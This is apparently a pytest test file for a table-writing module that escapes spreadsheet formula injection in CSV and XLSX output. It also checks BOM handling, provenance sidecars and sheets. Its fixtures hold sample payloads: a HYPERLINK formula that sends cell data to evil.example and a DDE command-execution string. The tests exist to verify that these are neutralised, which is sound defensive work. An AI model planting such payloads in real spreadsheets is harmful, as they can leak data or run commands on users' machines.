"""Safe CSV / XLSX writing: formula injection, BOM, provenance sidecar and sheet."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest

from coding.errors import QcodeError
from coding.tables import escape_cell, safe_frame, unescape_cell, write_table

MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "quote": [MALICIOUS, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTAB", "ordinary, with comma"],
            "delta": [-3, 4, -5, 0, 1, 2],
            "share": [-0.5, 0.25, 1.0, 0.0, -1.5, 2.0],
            "mixed": ["-3", "=1+1", 7, None, "ünïcode ✓", "-"],
        }
    )


@pytest.fixture
def about() -> dict[str, str]:
    return {"project": "demo", "codebook version": "1.2", "coders": "alice, bob", "source filter": "human"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("+4.5", "+4.5"),
        ("plain", "plain"),
        (-3, -3),
        (None, None),
    ],
)
def test_escape_cell(value, expected):
    assert escape_cell(value) == expected


@pytest.mark.parametrize("value", ["=1+1", "- I think so", "@home", "'quoted'", "-3", "plain", 5, None])
def test_unescape_reverses_escape(value):
    assert unescape_cell(escape_cell(value)) == value


def test_csv_neutralises_formulas_and_keeps_numbers(tmp_path, frame):
    path = write_table(frame, tmp_path / "codings.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0]["quote"] == "'" + MALICIOUS
    assert [row["quote"][0] for row in rows[:5]] == ["'"] * 5
    assert rows[5]["quote"] == "ordinary, with comma"
    assert [row["delta"] for row in rows] == ["-3", "4", "-5", "0", "1", "2"]
    assert rows[0]["share"] == "-0.5"
    assert [row["mixed"] for row in rows[:3]] == ["-3", "'=1+1", "7"]
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["delta"].tolist() == [-3, 4, -5, 0, 1, 2]


def test_csv_without_bom_and_sidecar(tmp_path, frame, about):
    path = write_table(frame, tmp_path / "matrix.csv", bom=False, header=about)
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")
    sidecar = tmp_path / "matrix.about.txt"
    assert sidecar.read_text(encoding="utf-8").splitlines() == [
        "project: demo",
        "codebook version: 1.2",
        "coders: alice, bob",
        "source filter: human",
    ]
    # The CSV itself stays one machine-readable table.
    assert pd.read_csv(path).columns.tolist() == ["quote", "delta", "share", "mixed"]


def test_no_sidecar_without_header(tmp_path, frame):
    write_table(frame, tmp_path / "t.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.csv"]


def test_xlsx_has_data_and_about_sheets_with_safe_cells(tmp_path, frame, about):
    path = write_table(frame, tmp_path / "codings.xlsx", header=about)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Data", "About"]
    data = book["Data"]
    assert [cell.value for cell in data[1]] == ["quote", "delta", "share", "mixed"]
    assert data["A2"].value == "'" + MALICIOUS
    assert data["A2"].data_type == "s"  # a string, not a formula
    assert all(row[0].data_type == "s" for row in data.iter_rows(min_row=2))
    assert data["B2"].value == -3 and data["B2"].data_type == "n"
    assert data["C2"].value == -0.5
    assert data["D3"].value == "'=1+1"
    about_sheet = book["About"]
    assert [(r[0].value, r[1].value) for r in about_sheet.iter_rows(min_row=2)] == list(about.items())


def test_xlsx_escapes_header_values_and_column_names(tmp_path):
    df = pd.DataFrame({"=evil()": ["x"]})
    path = write_table(df, tmp_path / "t.xlsx", header={"project": "=cmd()"})
    book = openpyxl.load_workbook(path)
    assert book["Data"]["A1"].value == "'=evil()"
    assert book["About"]["B2"].value == "'=cmd()"


def test_meaningful_index_is_kept_as_columns(tmp_path):
    crosstab = pd.DataFrame({"female": [3, 1], "male": [2, 5]}, index=pd.Index(["trust", "-fear"], name="code"))
    path = write_table(crosstab, tmp_path / "x.csv")
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back.columns.tolist() == ["code", "female", "male"]
    assert back["code"].tolist() == ["trust", "'-fear"]


def test_multiindex_columns_are_flattened():
    df = pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_tuples([("count", "a"), ("count", "b")]))
    assert safe_frame(df).columns.tolist() == ["count / a", "count / b"]


def test_timezone_aware_times_are_written_to_xlsx(tmp_path):
    df = pd.DataFrame({"time": pd.to_datetime(["2024-05-01T10:00:00+02:00"], utc=True)})
    book = openpyxl.load_workbook(write_table(df, tmp_path / "t.xlsx"))
    assert book["Data"]["A2"].value.hour == 8


def test_unknown_extension_is_a_usage_error(tmp_path, frame):
    with pytest.raises(QcodeError, match=r"\.csv or \.xlsx"):
        write_table(frame, tmp_path / "t.ods")
    assert list(tmp_path.iterdir()) == []


def test_missing_folder_is_a_clear_error(tmp_path, frame):
    with pytest.raises(QcodeError, match="cannot write"):
        write_table(frame, tmp_path / "missing" / "t.csv")


def test_input_frame_is_not_modified(tmp_path, frame):
    before = frame.copy()
    write_table(frame, tmp_path / "t.xlsx")
    pd.testing.assert_frame_equal(frame, before)
